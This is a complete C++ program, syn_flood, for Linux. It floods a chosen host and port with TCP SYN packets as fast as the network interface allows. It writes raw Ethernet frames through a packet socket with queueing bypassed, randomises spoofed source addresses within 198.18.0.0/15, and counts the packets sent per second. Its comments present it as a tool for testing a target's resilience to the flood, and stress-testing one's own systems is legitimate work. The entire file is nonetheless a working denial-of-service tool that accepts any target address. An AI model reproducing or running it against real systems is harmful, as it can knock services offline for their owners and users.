// Not a test: sends SYNs with random sources as fast as a kernel interface takes them, for tests of the flood's
// target. syn_flood INTERFACE TARGET-MAC TARGET-ADDRESS PORT, until SIGTERM; prints how many went out a second, and
// how many in all.
//
// Sources are 198.18.0.0/15 (RFC 2544's addresses for such purposes), each SYN with the options of an ordinary client.
#include <array>
#include <chrono>
#include <csignal>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <random>

#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <sys/socket.h>
#include <unistd.h>

namespace {

std::sig_atomic_t g_stop = 0;

constexpr size_t kBurst = 64;
constexpr std::array<uint8_t, 20> kOptions{2, 4, 5, 0xb4, 4, 2, 8, 10, 0, 0,
                                           0, 1, 0, 0,    0, 0, 1, 3,  3, 7};

struct [[gnu::packed]] Frame {
  ether_header ethernet;
  iphdr ip;
  tcphdr tcp;
  std::array<uint8_t, kOptions.size()> options;
};

uint16_t checksum(const void* data, size_t size, uint32_t sum) noexcept {
  const auto* bytes = static_cast<const uint8_t*>(data);
  for (size_t i = 0; i + 1 < size; i += 2)
    sum += static_cast<uint32_t>(bytes[i] << 8 | bytes[i + 1]);
  while ((sum >> 16) != 0)
    sum = (sum & 0xffff) + (sum >> 16);
  return htons(static_cast<uint16_t>(~sum));
}

void fill(Frame& f, std::mt19937& random) noexcept {
  f.ip.saddr = htonl(0xc6120000u | (static_cast<uint32_t>(random()) & 0x1ffff));
  f.ip.check = 0;
  f.ip.check = checksum(&f.ip, sizeof f.ip, 0);
  f.tcp.source = htons(static_cast<uint16_t>(1024 + random() % 60000));
  f.tcp.seq = static_cast<uint32_t>(random());
  f.tcp.check = 0;
  uint32_t pseudo = IPPROTO_TCP + sizeof f.tcp + sizeof f.options;
  for (const uint32_t address : {ntohl(f.ip.saddr), ntohl(f.ip.daddr)})
    pseudo += (address >> 16) + (address & 0xffff);
  f.tcp.check = checksum(&f.tcp, sizeof f.tcp + sizeof f.options, pseudo);
}

int complain(const char* what) {
  std::perror(what);
  return 1;
}

}  // namespace

int main(int argc, char** argv) {
  Frame plain{};
  if (argc != 5 ||
      std::sscanf(argv[2], "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", &plain.ethernet.ether_dhost[0],
                  &plain.ethernet.ether_dhost[1], &plain.ethernet.ether_dhost[2],
                  &plain.ethernet.ether_dhost[3], &plain.ethernet.ether_dhost[4],
                  &plain.ethernet.ether_dhost[5]) != 6 ||
      inet_pton(AF_INET, argv[3], &plain.ip.daddr) != 1) {
    std::fprintf(stderr, "usage: syn_flood INTERFACE TARGET-MAC TARGET-ADDRESS PORT\n");
    return 2;
  }
  plain.ethernet.ether_shost[0] = 2;  // locally administered
  plain.ethernet.ether_type = htons(ETHERTYPE_IP);
  plain.ip.version = 4;
  plain.ip.ihl = 5;
  plain.ip.tot_len = htons(sizeof plain - sizeof plain.ethernet);
  plain.ip.ttl = 64;
  plain.ip.protocol = IPPROTO_TCP;
  plain.tcp.dest = htons(static_cast<uint16_t>(std::atoi(argv[4])));
  plain.tcp.doff = (sizeof plain.tcp + kOptions.size()) / 4;
  plain.tcp.syn = 1;
  plain.tcp.window = htons(64240);
  plain.options = kOptions;

  const int descriptor = socket(AF_PACKET, SOCK_RAW, 0);
  if (descriptor < 0) return complain("socket");
  const int yes = 1;
  if (setsockopt(descriptor, SOL_PACKET, PACKET_QDISC_BYPASS, &yes, sizeof yes) != 0)
    return complain("PACKET_QDISC_BYPASS");
  sockaddr_ll to{};
  to.sll_family = AF_PACKET;
  to.sll_ifindex = static_cast<int>(if_nametoindex(argv[1]));
  if (bind(descriptor, reinterpret_cast<sockaddr*>(&to), sizeof to) != 0) return complain(argv[1]);

  std::mt19937 random(1);
  std::array<Frame, kBurst> frames;
  std::array<iovec, kBurst> parts;
  std::array<mmsghdr, kBurst> messages{};
  frames.fill(plain);
  for (size_t i = 0; i < kBurst; ++i) {
    parts[i] = {&frames[i], sizeof(Frame)};
    messages[i].msg_hdr.msg_iov = &parts[i];
    messages[i].msg_hdr.msg_iovlen = 1;
  }
  std::signal(SIGTERM, [](int) { g_stop = 1; });
  const auto begin = std::chrono::steady_clock::now();
  unsigned long sent = 0;
  while (g_stop == 0) {
    for (Frame& f : frames)
      fill(f, random);
    const int went = sendmmsg(descriptor, messages.data(), kBurst, 0);
    if (went > 0) sent += static_cast<unsigned long>(went);
  }
  const std::chrono::duration<double> took = std::chrono::steady_clock::now() - begin;
  close(descriptor);
  std::printf("%.0f %lu\n", static_cast<double>(sent) / took.count(), sent);
  return 0;
}
